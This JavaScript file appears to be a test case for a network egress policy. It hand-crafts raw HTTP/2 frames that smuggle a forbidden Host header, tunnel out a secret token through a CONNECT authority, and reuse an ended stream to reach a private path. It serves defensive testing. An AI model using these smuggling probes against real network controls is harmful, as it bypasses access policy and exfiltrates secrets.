// technique: asks for a forbidden path in HTTP/2, also as another host, as a tunnel, and in the head of a stream that has ended
// source: RFC 9113, section 8.3; connection reuse across hosts
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
// event: HttpRequest
import { ALLOWED, FORBIDDEN, PRIVATE, PUBLIC, say, TOKEN } from './wire.mjs';

const text = (value) => String.fromCharCode(value.length) + value;
const frame = (type, flags, stream, payload) =>
  `${String.fromCharCode(0, payload.length >> 8, payload.length & 255, type, flags, 0, 0, 0, stream)}${payload}`;
/** HEADERS of literals, with END_STREAM and END_HEADERS. */
const ask = (stream, fields) =>
  frame(1, 5, stream, fields.map(([name, value]) => `\0${text(name)}${text(value)}`).join(''));
const get = (path, host = ALLOWED) => [
  [':method', 'GET'],
  [':scheme', 'http'],
  [':authority', host],
  [':path', path],
];

const preface = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(4, 0, 0, '')}`;
await say(process.env.ALLOWED_HTTP, [
  preface +
    ask(1, get(PRIVATE)) +
    ask(3, [...get(PUBLIC), ['host', FORBIDDEN], ['x-token', TOKEN]]) +
    ask(5, [
      [':method', 'CONNECT'],
      [':authority', `${TOKEN}.test:443`],
    ]) +
    ask(1, get(PRIVATE)),
]);
